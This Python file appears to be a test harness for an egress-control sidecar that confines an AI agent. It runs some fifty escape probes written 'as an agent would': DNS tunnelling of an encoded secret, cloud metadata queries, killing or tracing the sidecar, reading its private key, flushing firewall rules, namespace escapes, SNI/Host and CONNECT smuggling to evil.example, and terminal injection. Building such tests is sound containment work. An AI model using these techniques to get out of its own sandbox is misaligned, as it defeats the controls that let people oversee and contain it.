"""Ways out, tried as an agent would. Each prints one line of JSON: its name, and what became of it.

"out" means that it reached somebody outside past the sidecar: whoever is out there answers with OUTSIDE. Arguments: the
layout (pod or run), then facts as KEY=VALUE.
"""

import ctypes
import json
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys

LAYOUT = sys.argv[1]
FACTS = dict(word.split("=", 1) for word in sys.argv[2:])
V4, V6, DNS = FACTS["v4"], FACTS["v6"], FACTS["dns"]
PROXY = ("127.0.0.1", 4750)
PATIENCE = 2
WAYS = {}


def way(function):
    WAYS[function.__name__] = function
    return function


def said(data):
    return "out" if b"OUTSIDE" in data else f"heard {data[:40]!r}"


def everything(sock):
    data = b""
    try:
        while part := sock.recv(4096):
            data += part
    except OSError:
        pass
    return data


def tcp(address, family=socket.AF_INET, send=b"", prepare=lambda sock: None, kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(PATIENCE)
        prepare(sock)
        sock.connect(address)
        if send:
            sock.sendall(send)
        return said(everything(sock))


def udp(address, family=socket.AF_INET, send=b"hello", kind=socket.SOCK_DGRAM, protocol=0):
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(PATIENCE / 2)
        sock.connect(address)
        sock.send(send)
        return said(sock.recv(4096))


def curl(*words):
    command = ["curl", "-sk", "-m", str(PATIENCE), "--noproxy", "*", *words]
    done = subprocess.run(command, capture_output=True, check=False)
    return said(done.stdout) + f", curl {done.returncode}"


def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def tls(address, name, host, via=None):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(via or address, PATIENCE) as sock:
        if via:
            sock.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: x\r\n\r\n" % (address[0].encode(), address[1]))
            head = sock.recv(4096)
            if b" 200 " not in head:
                return f"refused {head[:30]!r}"
        with context.wrap_socket(sock, server_hostname=name) as secure:
            secure.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            return said(everything(secure))


def system(*words):
    done = subprocess.run(words, capture_output=True, timeout=20, check=False)
    return "out" if done.returncode == 0 else f"exit {done.returncode}: {done.stderr[-60:]!r}"


def call(name, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, name)(*arguments) == 0:
        return "out"
    return os.strerror(ctypes.get_errno())


@way
def tcp_to_an_address():
    return tcp((V4, 5555))


@way
def tcp_to_an_ipv6_address():
    return tcp((V6, 5555), socket.AF_INET6)


@way
def tcp_to_a_mapped_address():
    return tcp((f"::ffff:{V4}", 5555), socket.AF_INET6)


@way
def tcp_to_a_port_that_servers_speak_on():
    return tcp((V4, 22))


@way
def tcp_fast_open():
    with socket.socket() as sock:
        sock.settimeout(PATIENCE)
        sock.sendto(b"hello", 0x20000000, (V4, 5555))
        return said(everything(sock))


@way
def tcp_bound_to_the_interface():
    device = lambda sock: sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    return tcp((V4, 5555), prepare=device)


@way
def tcp_with_a_mark():
    return tcp((V4, 5555), prepare=lambda sock: sock.setsockopt(socket.SOL_SOCKET, 36, 1))


@way
def udp_to_an_address():
    return udp((V4, 9999))


@way
def udp_to_an_ipv6_address():
    return udp((V6, 9999), socket.AF_INET6)


@way
def udp_lite():
    return udp((V4, 9999), protocol=136)


@way
def quic():
    return udp((V4, 443))


@way
def sctp():
    return tcp((V4, 5555), protocol=132)


@way
def ping():
    return udp((V4, 0), send=b"\x08\0\0\0\0\0\0\0", protocol=socket.IPPROTO_ICMP)


@way
def raw_socket():
    return udp((V4, 0), send=b"\x08\0\xf7\xff\0\0\0\0", kind=socket.SOCK_RAW, protocol=socket.IPPROTO_ICMP)


@way
def packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        return "out"


@way
def dns_tunnel():
    return udp((DNS, 53), send=query("c2VjcmV0.tunnel.example", 16))


@way
def dns_tunnel_through_the_resolver():
    socket.setdefaulttimeout(PATIENCE)
    return str(socket.getaddrinfo("c2VjcmV0.tunnel.example", 80))


@way
def dns_over_tcp():
    message = query("c2VjcmV0.tunnel.example", 16)
    return tcp((DNS, 53), send=struct.pack(">H", len(message)) + message)


@way
def dns_over_tls():
    return tls((DNS, 853), "dns.example", "dns.example")


@way
def dns_over_https_to_an_address():
    return curl("-H", "content-type: application/dns-message", "-d", "x", f"https://{V4}/dns-query")


@way
def metadata_service():
    return curl("http://169.254.169.254/latest/meta-data/")


@way
def another_port_of_loopback():
    return tcp(("127.0.0.1", int(FACTS["loopback"])))


@way
def the_pods_own_address():
    return tcp((FACTS.get("own", "192.0.2.2"), int(FACTS["loopback"])))


@way
def the_sidecars_admin_port():
    return tcp(("127.0.0.1", int(FACTS["admin"])), send=b"GET /config HTTP/1.0\r\n\r\n").replace("heard b'HTTP", "out")


@way
def the_sidecars_uid():
    os.setuid(int(FACTS["uid"]))
    return tcp((V4, 5555))


@way
def another_namespace():
    with open("/proc/1/ns/net") as namespace:
        if call("setns", namespace.fileno(), 0) == "out":
            return tcp((V4, 5555))
    return "not allowed"


@way
def nsenter():
    return system("nsenter", "-t", "1", "-n", "-m", "true")


@way
def a_namespace_of_its_own():
    script = f"import socket; socket.create_connection(({V4!r}, 5555), 2).recv(9)"
    return system("unshare", "-Urn", sys.executable, "-c", script)


@way
def rules_from_a_namespace_of_its_own():
    return system("unshare", "-Ur", "nft", "flush", "ruleset")


@way
def trace_the_sidecar():
    return call("ptrace", 16, int(FACTS["sidecar"]), 0, 0)


@way
def read_the_sidecars_memory():
    with open(f"/proc/{FACTS['sidecar']}/mem", "rb"):
        return "out"


@way
def read_the_sidecars_key():
    with open(FACTS["key"], "rb") as key:
        return "out" if b"PRIVATE KEY" in key.read() else "it is hidden"


@way
def kill_the_sidecar():
    os.kill(int(FACTS["sidecar"]), signal.SIGKILL)
    return "out"


@way
def change_the_rules():
    return system("nft", "flush", "ruleset")


@way
def change_the_routes():
    return system("ip", "route", "replace", "default", "via", "192.0.2.9")


@way
def sni_is_not_the_host():
    return tls((V4, 443), "allowed.example", "evil.example")


@way
def host_is_allowed_and_sni_is_not():
    return tls((V4, 443), "evil.example", "allowed.example")


@way
def no_sni():
    return tls((V4, 443), None, "allowed.example")


@way
def authority_is_not_the_sni():
    return curl("--http2", "-H", "Host: evil.example", "https://allowed.example/")


@way
def connect_to_an_address():
    return tls((V4, 443), "allowed.example", "allowed.example", via=PROXY)


@way
def connect_to_an_allowed_name_for_another():
    return tls(("allowed.example", 443), "evil.example", "evil.example", via=PROXY)


@way
def absolute_form_to_elsewhere():
    return tcp(PROXY, send=f"GET http://{V4}/ HTTP/1.1\r\nHost: {V4}\r\nConnection: close\r\n\r\n".encode())


@way
def absolute_form_inside_an_allowed_connection():
    ask = b"GET http://evil.example/ HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n"
    return tcp(("allowed.example", 80), send=ask)


@way
def a_second_proxy_out_there():
    return tcp((V4, 80), send=b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n")


@way
def connect_in_lower_case():
    ask = b"connect evil.example:443 HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
    return tcp(("allowed.example", 80), send=ask)


@way
def a_multicast_group_as_a_message():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        group = socket.inet_pton(socket.AF_INET6, "ff02:7365:6372:6574:2064:6174:6121:1")
        sock.setsockopt(41, 20, group + struct.pack("@I", socket.if_nametoindex("eth0")))
        return "whoever counts packets knows"


@way
def http_to_an_address_under_an_allowed_name():
    # It is judged, and goes to where the sidecar finds that name: nowhere else, whatever address it was sent to.
    return tcp((FACTS["other"], 80), send=b"GET /elsewhere HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n")


@way
def without_proxy_variables():
    return curl("https://evil.example/")


@way
def a_unix_socket_of_the_host():
    return tcp(FACTS["socket"], socket.AF_UNIX)


@way
def an_abstract_socket_of_the_host():
    return tcp("\0" + FACTS["abstract"], socket.AF_UNIX)


@way
def a_socket_to_the_machines_host():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE)
        sock.connect((2, 1024))
        return "out"


@way
def io_uring():
    return call("syscall", 425, 8, ctypes.create_string_buffer(120))


@way
def words_for_the_terminal():
    import fcntl

    with open(FACTS.get("tty", "/dev/tty"), "w") as terminal:
        fcntl.ioctl(terminal, 0x5412, b"x")
        return "out"


# What a layout leaves to others, and why: see the tests that run this.
LEFT_OUT = {
    "pod": {"a_unix_socket_of_the_host", "an_abstract_socket_of_the_host", "a_socket_to_the_machines_host", "io_uring", "words_for_the_terminal"},
    "run": {"another_port_of_loopback", "the_pods_own_address"},
}[LAYOUT]

if __name__ == "__main__":
    signal.signal(signal.SIGALRM, lambda *_: (_ for _ in ()).throw(TimeoutError("no end")))
    only = FACTS.get("only")
    for name, function in WAYS.items():
        if name in LEFT_OUT or only and name not in only.split(","):
            continue
        signal.alarm(20)
        try:
            outcome = function()
        except (OSError, ValueError, KeyError, subprocess.SubprocessError) as error:
            outcome = f"{type(error).__name__}: {error}"
        finally:
            signal.alarm(0)
        print(json.dumps({"way": name, "outcome": outcome}), flush=True)
